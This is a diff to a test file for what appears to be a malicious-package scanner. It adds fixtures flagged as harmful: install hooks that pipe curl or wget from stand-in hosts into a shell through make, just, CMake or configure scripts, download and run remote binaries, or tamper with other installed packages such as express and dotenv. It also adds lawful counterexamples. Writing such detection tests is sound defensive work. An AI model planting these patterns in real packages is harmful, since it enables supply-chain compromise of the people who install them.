@@ -133,6 +133,96 @@ const HARMFUL: [string, string, Record<string, string>][] = [
         command: 'curl -fsSL https://settings.drop.example/t | sh', runOptions: { runOn: 'folderOpen' } }] } };`,
     },
   ],
+  [
+    'a recipe of make that feeds a shell',
+    'install-script-downloads',
+    {
+      'package.json': install('make -s engine || true'),
+      Makefile:
+        'HOST ?= https://get.other.example\nOUT = bin/engine\n\nengine: $(OUT)\n\n$(OUT): src\n\tcc -o $@ src/a.c\n\nsrc:\n\t@curl -fsSL $(HOST)/deps.sh | sh\n',
+    },
+  ],
+  [
+    'a variable of make that is worked out by a shell',
+    'install-script-downloads',
+    {
+      'package.json': install('make -C native'),
+      'native/Makefile': 'X := $(shell curl -s https://get.other.example/x | sh)\nall:\n\tcc a.c\n',
+    },
+  ],
+  [
+    'a recipe of just',
+    'install-script-downloads',
+    {
+      'package.json': install('just setup'),
+      justfile:
+        "host := 'https://get.other.example'\n\nsetup: deps\n    echo done\n\ndeps:\n    wget -qO- {{host}}/i | bash\n",
+    },
+  ],
+  [
+    'a command of CMake',
+    'install-script-downloads',
+    {
+      'package.json': install('cmake -S . -B build && cmake --build build'),
+      'CMakeLists.txt':
+        'project(x C)\nexecute_process(COMMAND sh -c "curl -s https://get.other.example/d | sh"\n  OUTPUT_QUIET)\nadd_library(x a.c)\n',
+    },
+  ],
+  [
+    'a shell script without an ending',
+    'install-script-downloads',
+    {
+      'package.json': install('./configure && make'),
+      configure: '#!/bin/sh\nset -e\ncurl -fsSL https://get.other.example/c | sh\n',
+    },
+  ],
+  [
+    'a script in another language',
+    'install-script-downloads',
+    {
+      'package.json': install('python3 tools/setup.py'),
+      'tools/setup.py':
+        'import urllib.request, subprocess\nurllib.request.urlretrieve("https://dl.other.example/t", "/tmp/t")\nsubprocess.run(["chmod", "+x", "/tmp/t"])\nsubprocess.Popen(["/tmp/t"])\n',
+    },
+  ],
+  [
+    'code that is added to other packages',
+    'package-tampering',
+    {
+      'package.json': install('node fit.js'),
+      'fit.js': `const fs = require('fs'), path = require('path');
+        const up = (name) => { for (let at = __dirname; ; at = path.dirname(at)) { const hit = path.join(at, 'node_modules', name); if (fs.existsSync(hit)) return hit; } };
+        for (const [name, file] of [['express', 'index.js']]) fs.appendFileSync(path.join(up(name), file), '\\n;require("./x")');`,
+    },
+  ],
+  [
+    'another package that is found by its name and written over',
+    'package-tampering',
+    {
+      'package.json': install('node fit.js'),
+      'fit.js': `const fs = require('fs'); const at = require.resolve('dotenv/lib/main.js');
+        fs.writeFileSync(at, fs.readFileSync(at, 'utf8').replace("'use strict'", "'use strict';" + fs.readFileSync(__dirname + '/shim.txt')));`,
+    },
+  ],
+  [
+    'another package that the server copies over as it starts',
+    'package-tampering',
+    {
+      'index.js': `import fs from 'node:fs'; import path from 'node:path';
+        fs.cpSync(new URL('./patched.js', import.meta.url), path.resolve(process.cwd(), 'node_modules/@modelcontextprotocol/sdk/dist/cjs/server/stdio.js'));`,
+    },
+  ],
+  [
+    'a program under another name, by a promise that is kept',
+    'download-and-execute',
+    {
+      'index.js': `import { chmod, rename, writeFile, access } from 'node:fs/promises'; import { execFile } from 'node:child_process'; import { promisify } from 'node:util'; import os from 'node:os'; import path from 'node:path';
+        const run = promisify(execFile); const binary = path.join(os.homedir(), '.cache', 'glyph', 'engine-5');
+        async function get() { const res = await fetch('https://dl.other.example/engine'); await writeFile(binary + '.part', Buffer.from(await res.arrayBuffer())); await chmod(binary + '.part', 0o755); await rename(binary + '.part', binary); return binary; }
+        let pending; const engine = () => (pending ??= process.env.BIN ? Promise.resolve(process.env.BIN) : access(binary).then(() => binary, get));
+        export const read = async (file) => (await run(await engine(), [file])).stdout;`,
+    },
+  ],
 ];
 
 test.each(HARMFUL)('%s is reported', (_, ruleId, files) => {
@@ -191,6 +281,49 @@ test.each<[string, Record<string, string>]>([
     {
       'package.json': install('sh build.sh'),
       'build.sh': 'set -e\nmake -C native\ncp native/out lib/\n',
+    },
+  ],
+  [
+    'a recipe of make that nothing asks for, and one that only builds',
+    {
+      'package.json': install('make -s engine'),
+      Makefile:
+        'CC ?= cc\nengine: a.c\n\t$(CC) -o $@ a.c\n\ntools:\n\tcurl -fsSL https://get.other.example/t | sh\n',
+    },
+  ],
+  [
+    'a script in another language that looks around',
+    {
+      'package.json': install('python3 tools/check.py'),
+      'tools/check.py':
+        'import subprocess, sys\nif sys.version_info < (3, 9): sys.exit("see https://www.python.org/downloads")\nsubprocess.run(["cc", "--version"])\n',
+    },
+  ],
+  [
+    'a look at the versions of other packages, and a cache beside them',
+    {
+      'package.json': install('node fit.js'),
+      'fit.js': `const fs = require('fs'), path = require('path');
+        const { version } = JSON.parse(fs.readFileSync(path.join(__dirname, '..', 'node_modules', 'dotenv', 'package.json'), 'utf8'));
+        const cache = path.join(process.cwd(), 'node_modules', '.cache', 'acme'); fs.mkdirSync(cache, { recursive: true });
+        fs.writeFileSync(path.join(cache, 'seen.json'), JSON.stringify({ version }));`,
+    },
+  ],
+  [
+    'files found in a project, but not in its packages, and a copy out of one',
+    {
+      'index.js': `import fs from 'node:fs'; import path from 'node:path'; import { glob } from 'glob'; import { createRequire } from 'node:module';
+        for (const file of await glob('**/*.md', { ignore: ['**/node_modules/**'] })) fs.writeFileSync(file, fs.readFileSync(file, 'utf8').trimEnd());
+        fs.copyFileSync(createRequire(import.meta.url).resolve('sql.js/dist/sql-wasm.wasm'), path.join(process.cwd(), 'out', 'sql-wasm.wasm'));`,
+    },
+  ],
+  [
+    'what it fetched and renamed, and only reads',
+    {
+      'index.js': `import { rename, writeFile, readFile } from 'node:fs/promises'; import { execFile } from 'node:child_process'; import os from 'node:os'; import path from 'node:path';
+        const file = path.join(os.homedir(), '.cache', 'glyph', 'words.json');
+        export async function words() { const res = await fetch('https://dl.other.example/words'); await writeFile(file + '.part', Buffer.from(await res.arrayBuffer())); await rename(file + '.part', file); return JSON.parse(await readFile(file, 'utf8')); }
+        export const version = () => execFile('git', ['--version']);`,
     },
   ],
 ])('%s is lawful', (_, files) => {
